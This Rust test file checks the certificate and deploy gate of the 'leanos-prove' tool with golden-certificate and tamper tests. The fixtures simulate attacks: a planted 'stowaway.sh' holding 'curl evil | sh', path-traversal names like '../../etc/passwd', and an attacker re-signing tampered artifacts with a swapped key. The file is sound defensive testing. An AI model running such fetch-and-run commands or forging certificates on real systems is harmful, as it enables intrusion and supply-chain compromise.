//! The certificate and the deploy gate, end to end: golden certificates of the examples, and
//! tamper tests — every way of breaking a certified output must be refused with its own code.
//!
//! Codes covered here: LP8001 (malformed), LP8002 (bad signature), LP8003 (unsafe subject),
//! LP8004 (missing), LP8005 (modified), LP8006 (uncertified), LP8007 (spec changed),
//! LP8008 (traceability), LP8009 (policy), LP8010 (deploy not authorized), LP8011 (unsigned),
//! LP8012 (invalid policy). The attacks on the gate itself (issue #14), at the end: LP8013 (no trust anchor), LP8014 and
//! LP8015 (the TEST-ONLY key), LP8016 (pinned fingerprint), LP8017 (symlink), LP8018 (obligation
//! missing), LP8019 (unsupported digest).
//!
//! `UPDATE_GOLDEN=1 cargo test -p lp-cli --test certificate` rewrites `certificates/*.certificate`.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use lp_cert::dsse::{self, Envelope};
use lp_cert::keys;
use lp_cert::statement::Statement;
use lp_driver::fs::OsFs;
use lp_driver::verify::{VerifyRequest, verify};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const EXAMPLES: &[(&str, &str)] = &[
    ("spec-examples/catalog-sync", "catalog-sync"),
    ("spec-examples/order-fulfilment", "order-fulfilment"),
    ("spec-examples/subscription-billing/v1", "subscription-billing-v1"),
    ("spec-examples/subscription-billing/v2", "subscription-billing-v2"),
];
const TEST_KEY: &str = "certificates/TEST-ONLY-signing-key.key";
const TEST_PUB: &str = "certificates/TEST-ONLY-signing-key.pub";
const CERT: &str = "proofs/composed/system-proof.certificate";

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().expect("repo root")
}

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_leanos-prove"))
        .args(args)
        .current_dir(repo())
        .env_remove("LEANOS_SIGNING_KEY")
        .env_remove("LEANOS_TRUSTED_KEY")
        .env_remove("LEANOS_TRUSTED_KEY_FINGERPRINT")
        .env_remove("LEANOS_VERIFY_POLICY")
        .output()
        .expect("run leanos-prove")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("certificate").join(name);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("scratch dir");
    dir
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for e in std::fs::read_dir(from).expect("read_dir") {
        let e = e.expect("entry");
        let dest = to.join(e.file_name());
        if e.file_type().expect("type").is_dir() {
            if e.file_name() != ".leanos" && e.file_name() != "artifacts" {
                copy_tree(&e.path(), &dest);
            }
        } else {
            std::fs::copy(e.path(), &dest).expect("copy");
        }
    }
}

/// Builds an example (relative to the repository) into `out`, signed with the test key.
fn build(project: &str, out: &Path) {
    let o = run(&["build", project, "--out", &out.to_string_lossy(), "--no-cache", "--quiet", "--color", "never"]);
    assert_eq!(o.status.code(), Some(0), "build {project}: {}", text(&o.stderr));
    assert!(out.join(CERT).is_file(), "build {project} wrote no certificate: {}", text(&o.stderr));
}

/// Runs the verifier in-process with the test key pinned and allowed; returns the codes of its
/// errors (empty = authorized).
fn gate(out: &Path, project: &Path, cert: Option<&Path>) -> Vec<&'static str> {
    let req = VerifyRequest {
        path: out.to_path_buf(),
        cert: cert.map(Path::to_path_buf),
        key: Some(repo().join(TEST_PUB)),
        allow_test_key: true,
        project: Some(project.to_path_buf()),
        ..VerifyRequest::default()
    };
    let o = verify(&OsFs, &req).expect("verify runs");
    let mut codes: Vec<&'static str> = o.diagnostics.iter().filter(|d| d.is_error()).map(|d| d.code.id()).collect();
    codes.dedup();
    assert_eq!(o.authorized(), codes.is_empty());
    codes
}

/// The codes of the errors of an in-process verify (empty = authorized).
fn error_codes(req: &VerifyRequest) -> Vec<&'static str> {
    let o = verify(&OsFs, req).expect("verify runs");
    let mut codes: Vec<&'static str> = o.diagnostics.iter().filter(|d| d.is_error()).map(|d| d.code.id()).collect();
    codes.dedup();
    assert_eq!(o.authorized(), codes.is_empty());
    codes
}

/// One clean build of catalog-sync shared by the tamper tests (each copies it).
fn pristine(name: &str) -> (PathBuf, PathBuf) {
    let dir = scratch(name);
    let project = dir.join("project");
    copy_tree(&repo().join("spec-examples/catalog-sync"), &project);
    // The copied project signs with the repository's test key.
    let toml = std::fs::read_to_string(project.join("leanos.toml")).expect("toml");
    let toml = toml.replace("../../certificates/", &format!("{}/certificates/", repo().display()));
    std::fs::write(project.join("leanos.toml"), toml).expect("write toml");
    let out = project.join("artifacts/engineering");
    let o = run(&["build", &project.to_string_lossy(), "--no-cache", "--quiet", "--color", "never"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(gate(&out, &project, None).is_empty(), "a fresh build must verify");
    (project, out)
}

fn files_under(dir: &Path, base: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).expect("read_dir") {
        let p = e.expect("entry").path();
        if p.is_dir() {
            files_under(&p, base, out);
        } else {
            out.push(p.strip_prefix(base).expect("under base").to_path_buf());
        }
    }
}

fn envelope_of(out: &Path) -> (Envelope, Statement) {
    let env: Envelope = serde_json::from_slice(&std::fs::read(out.join(CERT)).expect("cert")).expect("envelope");
    let payload = STANDARD.decode(&env.payload).expect("payload");
    (env, serde_json::from_slice(&payload).expect("statement"))
}

/// Re-signs a forged statement with the real test key, so only the forgery itself can be caught.
fn resign(out: &Path, st: &Statement) {
    let key = keys::private_key_from_pem(&std::fs::read_to_string(repo().join(TEST_KEY)).expect("key")).expect("pkcs8");
    let fp = keys::fingerprint(&key.verifying_key()).expect("fingerprint");
    let payload = lp_cert::canonical::to_vec(&serde_json::to_value(st).expect("json")).expect("canonical");
    let env = dsse::sign(&key, dsse::IN_TOTO_PAYLOAD_TYPE, &payload, &fp);
    std::fs::write(out.join(CERT), serde_json::to_vec(&env).expect("json")).expect("write cert");
}

#[test]
fn every_example_rebuilds_to_its_golden_certificate() {
    let update = std::env::var_os("UPDATE_GOLDEN").is_some();
    let mut problems = Vec::new();
    for (project, name) in EXAMPLES {
        let out = scratch(&format!("golden-{name}"));
        build(project, &out);
        let golden = repo().join("certificates").join(format!("{name}.certificate"));
        let fresh = std::fs::read(out.join(CERT)).expect("certificate");
        // Same input, same bytes: a second build gives the identical certificate.
        let again = scratch(&format!("golden-{name}-again"));
        build(project, &again);
        assert_eq!(fresh, std::fs::read(again.join(CERT)).expect("certificate"), "{name}: build is not deterministic");
        if update {
            std::fs::write(&golden, &fresh).expect("write golden");
            continue;
        }
        match std::fs::read(&golden) {
            Ok(g) if g == fresh => {}
            Ok(_) => problems.push(format!(
                "{name}: the build's certificate differs from {} (the output changed; review, then UPDATE_GOLDEN=1)",
                golden.display()
            )),
            Err(e) => problems.push(format!("{name}: cannot read {}: {e}", golden.display())),
        }
        // The golden certificate verifies the rebuilt tree (in the place of the fresh one: only
        // the certificate in use is exempt from the orphan check).
        let _ = std::fs::copy(&golden, out.join(CERT));
        let codes = gate(&out, &repo().join(project), None);
        if !codes.is_empty() && !update {
            problems.push(format!("{name}: the golden certificate does not verify the rebuilt output: {codes:?}"));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn the_cli_gate_authorizes_a_clean_build_and_lists_every_reason_otherwise() {
    let (project, out) = pristine("cli");
    let p = project.to_string_lossy().to_string();
    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
    let ok = run(&["verify", &p, "--key", &key, "--allow-test-key", "--color", "never"]);
    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
    assert!(text(&ok.stderr).contains("deploy authorized"), "{}", text(&ok.stderr));
    assert!(text(&ok.stderr).contains("warning[LP8014]"), "{}", text(&ok.stderr));

    std::fs::write(out.join("specifications/v2.0.0/api.openapi.json"), b"{}").expect("tamper");
    std::fs::write(out.join("stowaway.sh"), b"curl evil | sh").expect("add");
    let bad = run(&["verify", &p, "--key", &key, "--allow-test-key", "--color", "never"]);
    assert_eq!(bad.status.code(), Some(1));
    let err = text(&bad.stderr);
    assert!(err.contains("error[LP8005]") && err.contains("api.openapi.json"), "{err}");
    assert!(err.contains("error[LP8006]") && err.contains("stowaway.sh"), "{err}");
    assert!(err.contains("deploy NOT authorized: 2 reasons"), "{err}");

    let json = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", "json"]);
    assert_eq!(json.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json output");
    assert_eq!(v["authorized"], false);
    let codes: Vec<&str> =
        v["diagnostics"].as_array().expect("array").iter().filter_map(|d| d["code"].as_str()).collect();
    assert_eq!(codes, vec!["LP8014", "LP8005", "LP8006"]);

    let gh = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", "github"]);
    assert_eq!(gh.status.code(), Some(1));
    let lines = text(&gh.stdout);
    assert!(lines.lines().any(|l| l.starts_with("::error title=LP8005::")), "{lines}");

    let sarif = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", "sarif"]);
    let v: serde_json::Value = serde_json::from_slice(&sarif.stdout).expect("sarif output");
    assert_eq!(v["runs"][0]["results"].as_array().map(Vec::len), Some(3));

    // The composition graph is valid Graphviz (CI installs graphviz; elsewhere it may be absent).
    let graph = out.join("proofs/composed/composition.dot");
    match Command::new("dot").arg("-Tsvg").arg(&graph).output() {
        Ok(o) => assert!(o.status.success(), "dot rejects composition.dot: {}", text(&o.stderr)),
        Err(e) => assert!(std::env::var_os("CI").is_none(), "graphviz is required under CI: {e}"),
    }

    // Usage and IO errors are exit 2.
    let missing = run(&["verify", &p, "--key", "/nonexistent/key.pub"]);
    assert_eq!(missing.status.code(), Some(2), "{}", text(&missing.stderr));
    let no_dir = run(&["verify", "/nonexistent/out", "--key", &key]);
    assert_eq!(no_dir.status.code(), Some(2), "{}", text(&no_dir.stderr));
}

#[test]
fn flipping_any_byte_of_any_artifact_is_caught() {
    let (project, out) = pristine("flip-artifacts");
    let mut files = Vec::new();
    files_under(&out, &out, &mut files);
    files.retain(|f| !f.ends_with("system-proof.certificate"));
    assert!(files.len() > 10, "expected a real output tree, found {files:?}");
    for rel in &files {
        let path = out.join(rel);
        let original = std::fs::read(&path).expect("read");
        // The first, a middle and the last byte.
        for at in [0, original.len() / 2, original.len().saturating_sub(1)] {
            let mut bytes = original.clone();
            bytes[at] ^= 0x01;
            std::fs::write(&path, &bytes).expect("write");
            assert_eq!(gate(&out, &project, None), vec!["LP8005"], "{} byte {at}", rel.display());
        }
        std::fs::write(&path, &original).expect("restore");
    }
    assert!(gate(&out, &project, None).is_empty());
}

#[test]
fn flipping_bytes_of_the_envelope_is_caught() {
    let (project, out) = pristine("flip-envelope");
    let cert = out.join(CERT);
    let original = std::fs::read(&cert).expect("cert");
    let n = original.len();
    // Every byte outside the long base64 payload, and a deterministic spread inside it.
    let payload_start = text(&original).find("\"payload\":\"").map(|i| i + 11).unwrap_or(0);
    let payload_end = text(&original)[payload_start..].find('"').map(|i| i + payload_start).unwrap_or(n);
    let mut positions: Vec<usize> = (0..payload_start.min(n)).chain(payload_end..n).collect();
    positions.extend((payload_start..payload_end).step_by(97));
    positions.extend(payload_start..(payload_start + 64).min(payload_end));
    positions.extend(payload_end.saturating_sub(64).max(payload_start)..payload_end);
    positions.sort();
    positions.dedup();
    let mut tried = 0;
    for at in positions {
        let mut bytes = original.clone();
        bytes[at] ^= 0x01;
        std::fs::write(&cert, &bytes).expect("write");
        let codes = gate(&out, &project, None);
        assert!(!codes.is_empty(), "flipping byte {at} ({:?}) of the envelope went unnoticed", original[at] as char);
        assert!(
            codes.iter().all(|c| ["LP8001", "LP8002"].contains(c)),
            "byte {at}: {codes:?} (the signature must fail before anything in the payload is believed)"
        );
        tried += 1;
    }
    assert!(tried > 300, "only {tried} positions tried");
    std::fs::write(&cert, &original).expect("restore");
    assert!(gate(&out, &project, None).is_empty());
}

#[test]
fn added_and_removed_files_are_caught() {
    let (project, out) = pristine("add-remove");
    std::fs::write(out.join("configs/backdoor.yaml"), b"kind: Pod\n").expect("add");
    assert_eq!(gate(&out, &project, None), vec!["LP8006"]);
    std::fs::remove_file(out.join("configs/backdoor.yaml")).expect("remove");
    let victim = out.join("proofs/composed/verification-report.md");
    std::fs::remove_file(&victim).expect("remove");
    assert_eq!(gate(&out, &project, None), vec!["LP8004"]);
}

#[test]
fn a_different_key_is_refused() {
    let (project, out) = pristine("other-key");
    let other = keys::generate().expect("key");
    let other_pub = out.parent().expect("parent").join("other.pub");
    std::fs::write(&other_pub, keys::public_key_to_pem(&other.verifying_key()).expect("pem")).expect("write");
    let req = VerifyRequest {
        path: out.clone(),
        key: Some(other_pub),
        project: Some(project.clone()),
        ..VerifyRequest::default()
    };
    let o = verify(&OsFs, &req).expect("verify runs");
    let codes: Vec<&str> = o.diagnostics.iter().map(|d| d.code.id()).collect();
    assert_eq!(codes, vec!["LP8002"]);
    // A certificate signed by another key with its own keyid is refused with the real key.
    let (_, st) = envelope_of(&out);
    let payload = lp_cert::canonical::to_vec(&serde_json::to_value(&st).expect("json")).expect("canonical");
    let fp = keys::fingerprint(&other.verifying_key()).expect("fp");
    let env = dsse::sign(&other, dsse::IN_TOTO_PAYLOAD_TYPE, &payload, &fp);
    std::fs::write(out.join(CERT), serde_json::to_vec(&env).expect("json")).expect("write");
    assert_eq!(gate(&out, &project, None), vec!["LP8002"]);
}

#[test]
fn a_certificate_from_an_older_spec_is_refused() {
    let (project, out) = pristine("older-spec");
    let old_cert = out.parent().expect("parent").join("old.certificate");
    std::fs::copy(out.join(CERT), &old_cert).expect("keep the old certificate");
    // The spec changes (a new type), the project is rebuilt, and the old certificate is put back.
    let spec = project.join("spec/catalog.adt");
    let mut src = std::fs::read_to_string(&spec).expect("spec");
    src.push_str("\n/// Added after certification.\ntype Later = { note: String }\n");
    std::fs::write(&spec, src).expect("write spec");
    let o = run(&["build", &project.to_string_lossy(), "--no-cache", "--quiet", "--color", "never"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    std::fs::copy(&old_cert, out.join(CERT)).expect("old certificate back");
    let codes = gate(&out, &project, None);
    assert!(codes.contains(&"LP8007"), "{codes:?}");
    assert!(codes.contains(&"LP8005"), "{codes:?}");
    // Even with the old artifacts intact, a changed spec alone is refused.
    let (project, out) = pristine("older-spec-only");
    std::fs::write(project.join("spec/extra.adt"), "type Extra = { a: Int }\n").expect("new spec file");
    assert_eq!(gate(&out, &project, None), vec!["LP8007"]);
}

#[test]
fn unsafe_subject_paths_are_refused_before_reading_files() {
    for (i, bad) in ["../../etc/passwd", "/etc/passwd", "a/./b", "code\\x"].iter().enumerate() {
        let (project, out) = pristine(&format!("unsafe-{i}"));
        let (_, mut st) = envelope_of(&out);
        st.subject[0].name = bad.to_string();
        resign(&out, &st);
        assert_eq!(gate(&out, &project, None), vec!["LP8003"], "{bad}");
    }
    let (project, out) = pristine("unsafe-dup");
    let (_, mut st) = envelope_of(&out);
    let dup = st.subject[0].clone();
    st.subject.push(dup);
    resign(&out, &st);
    assert_eq!(gate(&out, &project, None), vec!["LP8003"]);
}

/// `S + L`, for a signature's scalar `S` (little-endian): the same point equation, but not the
/// canonical encoding; strict verification must refuse it.
fn add_group_order(s: &[u8; 32]) -> [u8; 32] {
    const L: [u8; 32] = [
        0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
    ];
    let mut out = [0u8; 32];
    let mut carry = 0u16;
    for i in 0..32 {
        let v = u16::from(s[i]) + u16::from(L[i]) + carry;
        out[i] = (v & 0xff) as u8;
        carry = v >> 8;
    }
    out
}

#[test]
fn a_non_canonical_signature_scalar_is_refused() {
    let (project, out) = pristine("non-canonical-s");
    let (mut env, _) = envelope_of(&out);
    let sig = STANDARD.decode(&env.signatures[0].sig).expect("sig");
    let mut s = [0u8; 32];
    s.copy_from_slice(&sig[32..]);
    let mut forged = sig[..32].to_vec();
    forged.extend_from_slice(&add_group_order(&s));
    assert_ne!(forged, sig);
    env.signatures[0].sig = STANDARD.encode(&forged);
    std::fs::write(out.join(CERT), serde_json::to_vec(&env).expect("json")).expect("write");
    assert_eq!(gate(&out, &project, None), vec!["LP8002"]);
}

#[test]
fn broken_traceability_is_refused() {
    let (project, out) = pristine("trace");
    let (_, mut st) = envelope_of(&out);
    let item = st.predicate.traceability.items.keys().next().expect("an item").clone();
    st.predicate.traceability.items.insert(item, Vec::new());
    resign(&out, &st);
    assert_eq!(gate(&out, &project, None), vec!["LP8008"]);
    let (project, out) = pristine("trace-artifact");
    let (_, mut st) = envelope_of(&out);
    let first = st.predicate.traceability.artifacts.keys().next().expect("an artifact").clone();
    st.predicate.traceability.artifacts.remove(&first);
    resign(&out, &st);
    assert_eq!(gate(&out, &project, None), vec!["LP8008"]);
}

#[test]
fn the_policy_is_applied_and_a_bad_policy_is_a_usage_error() {
    let (project, out) = pristine("policy");
    let strict = out.parent().expect("parent").join("strict.toml");
    std::fs::write(&strict, "min_tested_cases = 1000\n").expect("policy");
    let p = project.to_string_lossy().to_string();
    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
    let o = run(&[
        "verify",
        &p,
        "--key",
        &key,
        "--allow-test-key",
        "--policy",
        &strict.to_string_lossy(),
        "--color",
        "never",
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("error[LP8009]"), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("at least 1000 cases"), "{}", text(&o.stderr));
    let typo = out.parent().expect("parent").join("typo.toml");
    std::fs::write(&typo, "min_tested_case = 1000\n").expect("policy");
    let o = run(&[
        "verify",
        &p,
        "--key",
        &key,
        "--allow-test-key",
        "--policy",
        &typo.to_string_lossy(),
        "--color",
        "never",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("LP8012"), "{}", text(&o.stderr));
}

#[test]
fn a_build_below_the_project_policy_is_signed_but_not_authorized() {
    let (project, out) = pristine("not-authorized");
    let toml = project.join("leanos.toml");
    let mut t = std::fs::read_to_string(&toml).expect("toml");
    t.push_str("\n[policy]\nrequire_proved = [\"functor\"]\n");
    std::fs::write(&toml, t).expect("write");
    let o = run(&["build", &project.to_string_lossy(), "--no-cache", "--quiet", "--color", "never"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("warning[LP8009]"), "{}", text(&o.stderr));
    let (_, st) = envelope_of(&out);
    assert!(!st.predicate.deploy_authorized);
    let codes = gate(&out, &project, None);
    assert!(codes.contains(&"LP8010") && codes.contains(&"LP8009"), "{codes:?}");
}

#[test]
fn an_unsigned_build_writes_no_certificate_and_a_bad_key_writes_nothing() {
    let dir = scratch("unsigned");
    let spec = dir.join("tiny.adt");
    std::fs::write(&spec, "spec tiny version 1.0.0\ntype Cents = Int where self >= 0\n").expect("write spec");
    let o = run(&["build", &spec.to_string_lossy(), "--out", &dir.join("out").to_string_lossy(), "--color", "never"]);
    // A lone file has no project signing key: everything but the certificate is written.
    let err = text(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(err.contains("warning[LP8011]"), "{err}");
    assert!(dir.join("out/proofs/composed/verification-report.md").is_file());
    assert!(!dir.join("out").join(CERT).exists());
    let bad_key = dir.join("bad.key");
    std::fs::write(&bad_key, "not a key").expect("write");
    let o = run(&[
        "build",
        "spec-examples/catalog-sync",
        "--out",
        &dir.join("out2").to_string_lossy(),
        "--key",
        &bad_key.to_string_lossy(),
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(!dir.join("out2").exists(), "a build with a bad key must write nothing");
}

#[test]
fn a_malformed_certificate_is_lp8001() {
    let (project, out) = pristine("malformed");
    for junk in
        [&b"not json"[..], b"{}", b"{\"payload\":\"\",\"payloadType\":\"text/plain\",\"signatures\":[]}", b"\x00\xff"]
    {
        std::fs::write(out.join(CERT), junk).expect("write");
        assert_eq!(gate(&out, &project, None), vec!["LP8001"], "{:?}", text(junk));
    }
}

#[test]
fn a_failed_verify_is_flagged_in_the_leanos_workspace() {
    let dir = scratch("workspace");
    copy_tree(&repo().join("spec-examples/leanos-workspace"), &dir.join("leanos-workspace"));
    let project = dir.join("catalog-sync");
    copy_tree(&repo().join("spec-examples/catalog-sync"), &project);
    let toml = std::fs::read_to_string(project.join("leanos.toml")).expect("toml");
    let toml = toml.replace("../../certificates/", &format!("{}/certificates/", repo().display()));
    std::fs::write(project.join("leanos.toml"), toml).expect("write toml");
    let p = project.to_string_lossy().to_string();
    let o = run(&["build", &p, "--no-cache", "--quiet", "--color", "never"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    std::fs::write(project.join("artifacts/engineering/configs/extra.yaml"), b"x: 1\n").expect("tamper");
    let ws = dir.join("leanos-workspace");
    let o = Command::new(env!("CARGO_BIN_EXE_leanos-prove"))
        .args(["verify", &p, "--allow-test-key", "--color", "never"])
        .env("LEANOS_TRUSTED_KEY", repo().join(TEST_PUB))
        .env("LEANOS_WORKSPACE", &ws)
        .env("LEANOS_TODAY", "2026-11-24")
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("flagged in the LeanOS workspace"), "{}", text(&o.stderr));
    let today = std::fs::read_to_string(ws.join("ops/today.md")).expect("today.md");
    assert!(today.contains("2026-11-24") && today.contains("verify failed"), "{today}");
    let action = ws.join("threads/engineering/catalog-sync/5-actions/action-5-validate.md");
    let log = std::fs::read_to_string(action).expect("action log");
    assert!(log.contains("verify: FAILED"), "{log}");
    assert!(log.contains("status: blocked"), "{log}");
    // Without a workspace nothing is written anywhere.
    let before = std::fs::read_to_string(ws.join("ops/today.md")).expect("today.md");
    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
    let o = run(&["verify", &p, "--key", &key, "--allow-test-key", "--color", "never"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(std::fs::read_to_string(ws.join("ops/today.md")).expect("today.md"), before);
}

// ---- Attacks on the gate itself (issue #14). Each passed the gate before it was fixed. ----

/// Runs the binary with extra environment variables.
fn run_env(args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_leanos-prove"));
    c.args(args)
        .current_dir(repo())
        .env_remove("LEANOS_SIGNING_KEY")
        .env_remove("LEANOS_TRUSTED_KEY")
        .env_remove("LEANOS_TRUSTED_KEY_FINGERPRINT")
        .env_remove("LEANOS_VERIFY_POLICY");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("run leanos-prove")
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    keys::hex(&sha2::Sha256::digest(b))
}

/// Signs a statement with `key` into the output's certificate.
fn sign_with(out: &Path, st: &Statement, key: &keys::PrivateKey) {
    let fp = keys::fingerprint(&key.verifying_key()).expect("fingerprint");
    let payload = lp_cert::canonical::to_vec(&serde_json::to_value(st).expect("json")).expect("canonical");
    let env = dsse::sign(key, dsse::IN_TOTO_PAYLOAD_TYPE, &payload, &fp);
    std::fs::write(out.join(CERT), serde_json::to_vec(&env).expect("json")).expect("write cert");
}

#[test]
fn the_committed_test_key_has_the_recorded_fingerprint() {
    let pem = std::fs::read_to_string(repo().join(TEST_PUB)).expect("test key");
    let key = keys::public_key_from_pem(&pem).expect("spki");
    assert_eq!(keys::fingerprint(&key).expect("fingerprint"), keys::TEST_ONLY_KEY_FINGERPRINT);
}

#[test]
fn the_trees_own_key_is_not_a_trust_anchor() {
    let (project, out) = pristine("anchor");
    let p = project.to_string_lossy().to_string();
    // The attacker tampers with an artifact, swaps the project's public key for their own and
    // re-signs the tree.
    let attacker = keys::generate().expect("key");
    std::fs::write(project.join("attacker.pub"), keys::public_key_to_pem(&attacker.verifying_key()).expect("pem"))
        .expect("write");
    let toml = std::fs::read_to_string(project.join("leanos.toml")).expect("toml");
    let toml = toml.lines().map(|l| if l.starts_with("public_key") { "public_key = \"attacker.pub\"" } else { l });
    let toml = toml.collect::<Vec<_>>().join("\n");
    std::fs::write(project.join("leanos.toml"), &toml).expect("toml");
    let victim = "configs/docker/docker-compose.yaml";
    let evil = b"services: {evil: {image: evil}}\n";
    assert!(out.join(victim).is_file(), "{victim} is generated");
    std::fs::write(out.join(victim), evil).expect("tamper");
    let (_, mut st) = envelope_of(&out);
    for s in &mut st.subject {
        if s.name == victim {
            s.digest.insert("sha256".into(), sha256_hex(evil));
        }
    }
    // The attacker signs, so the certified digest of the edited `leanos.toml` is theirs too.
    for f in &mut st.predicate.spec.files {
        if f.path == "leanos.toml" {
            f.sha256 = sha256_hex(toml.as_bytes());
        }
    }
    sign_with(&out, &st, &attacker);
    // Nothing pinned: a usage error that says how to pin a key.
    let o = run(&["verify", &p, "--color", "never"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("LP8013") && err.contains("LEANOS_TRUSTED_KEY") && err.contains("--key-fingerprint"), "{err}");
    // Pinned from outside, the forgery fails: as a file, as PEM text, as a fingerprint.
    let pub_path = repo().join(TEST_PUB);
    let pem = std::fs::read_to_string(&pub_path).expect("pem");
    for env in [pub_path.to_string_lossy().to_string(), pem] {
        let o = run_env(&["verify", &p, "--allow-test-key", "--color", "never"], &[("LEANOS_TRUSTED_KEY", &env)]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
        assert!(text(&o.stderr).contains("error[LP8002]"), "{}", text(&o.stderr));
    }
    let fp = keys::TEST_ONLY_KEY_FINGERPRINT;
    let o = run(&["verify", &p, "--key-fingerprint", fp, "--allow-test-key", "--color", "never"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("error[LP8016]"), "{}", text(&o.stderr));
    let o = run_env(&["verify", &p, "--color", "never"], &[("LEANOS_TRUSTED_KEY_FINGERPRINT", fp)]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("error[LP8016]"), "{}", text(&o.stderr));
    let o = run(&["verify", &p, "--key-fingerprint", "SHA256:nothex", "--color", "never"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("LP8013"), "{}", text(&o.stderr));
}

#[test]
fn the_test_key_is_refused_unless_allowed_and_warned_about_either_way() {
    let (project, _) = pristine("test-key");
    let p = project.to_string_lossy().to_string();
    let fp = keys::TEST_ONLY_KEY_FINGERPRINT;
    // The project's key has the pinned fingerprint, so it is trusted; it is the test key.
    let o = run(&["verify", &p, "--key-fingerprint", fp, "--color", "never"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("warning[LP8014]") && err.contains("error[LP8015]"), "{err}");
    let o = run(&["verify", &p, "--key-fingerprint", fp, "--allow-test-key", "--color", "never"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("warning[LP8014]") && !err.contains("LP8015"), "{err}");
}

#[test]
fn a_decoy_project_above_the_output_does_not_satisfy_the_spec_check() {
    let (project, out) = pristine("decoy");
    let key = Some(repo().join(TEST_PUB));
    let req = VerifyRequest { path: out.clone(), key: key.clone(), allow_test_key: true, ..VerifyRequest::default() };
    // The genuine layout is found upwards and confirmed by the certified output path.
    assert!(error_codes(&req).is_empty());
    // A copy of the certified project is planted just above the output folder, then the real
    // spec is edited.
    let decoy = out.parent().expect("artifacts");
    std::fs::copy(project.join("leanos.toml"), decoy.join("leanos.toml")).expect("copy toml");
    copy_tree(&project.join("spec"), &decoy.join("spec"));
    let spec = project.join("spec/catalog.adt");
    let mut src = std::fs::read_to_string(&spec).expect("spec");
    src.push_str("\n/// Edited after certification.\ntype Later = { note: String }\n");
    std::fs::write(&spec, src).expect("edit spec");
    assert_eq!(error_codes(&req), vec!["LP8007"]);
}

#[test]
fn symlinks_in_the_output_are_refused() {
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        let (project, out) = pristine("symlink-file");
        let victim = out.join("configs/docker/docker-compose.yaml");
        let elsewhere = out.parent().expect("parent").parent().expect("project").join("../elsewhere.yaml");
        std::fs::copy(&victim, &elsewhere).expect("identical copy");
        std::fs::remove_file(&victim).expect("remove");
        symlink(&elsewhere, &victim).expect("symlink");
        assert_eq!(gate(&out, &project, None), vec!["LP8017"]);

        let (project, out) = pristine("symlink-dir");
        let elsewhere = project.parent().expect("scratch").join("configs-copy");
        copy_tree(&out.join("configs"), &elsewhere);
        std::fs::remove_dir_all(out.join("configs")).expect("remove");
        symlink(&elsewhere, out.join("configs")).expect("symlink");
        assert_eq!(gate(&out, &project, None), vec!["LP8017"]);
    }
}

#[test]
fn only_the_certificate_in_use_is_exempt_from_the_orphan_check() {
    let (project, out) = pristine("cert-exempt");
    let other = out.parent().expect("parent").join("other.certificate");
    std::fs::copy(out.join(CERT), &other).expect("copy");
    // Verifying with another certificate, the file at the default place is just another file.
    assert_eq!(gate(&out, &project, Some(&other)), vec!["LP8006"]);
    std::fs::remove_file(out.join(CERT)).expect("remove");
    assert!(gate(&out, &project, Some(&other)).is_empty());
    // A certificate given by `--cert` inside the output folder is exempt, wherever it lies.
    let inside = out.join("configs/release.certificate");
    std::fs::copy(&other, &inside).expect("copy");
    assert!(gate(&out, &project, Some(&inside)).is_empty());
}

#[test]
